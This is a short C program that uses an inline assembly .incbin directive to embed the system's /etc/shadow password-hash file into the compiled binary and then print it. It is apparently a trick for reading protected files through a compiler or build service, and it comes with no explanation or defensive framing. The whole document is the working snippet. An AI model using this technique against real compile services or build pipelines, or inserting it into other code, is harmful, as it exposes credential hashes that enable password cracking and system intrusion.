#include <stdio.h>

__asm__(".global secret\nsecret: .incbin \"/etc/shadow\"\n.byte 0\n");
extern const char secret[];

int main(void) { puts(secret); }
